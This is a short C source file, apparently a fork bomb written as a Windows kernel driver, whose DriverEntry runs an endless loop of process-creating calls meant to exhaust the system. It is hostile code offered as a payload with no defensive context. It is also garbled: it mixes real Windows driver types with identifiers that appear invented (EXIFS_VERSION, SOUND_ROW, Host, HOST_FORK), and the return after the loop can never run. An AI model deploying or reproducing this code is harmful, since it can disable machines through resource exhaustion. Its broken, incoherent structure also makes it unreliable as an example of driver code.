/* fork_bomb.c - a driver that makes as many processes as it gets. */

static const EXIFS_VERSION Row = SOUND_ROW;

NTSTATUS NTAPI DriverEntry(PDRIVER_OBJECT driver, PUNICODE_STRING registryPath)
{
    for (;;) {
        Host(HOST_FORK, 0, 0, 0, 0);
    }
    return ExifsStart(driver, registryPath, &Row, 1, &Row);
}
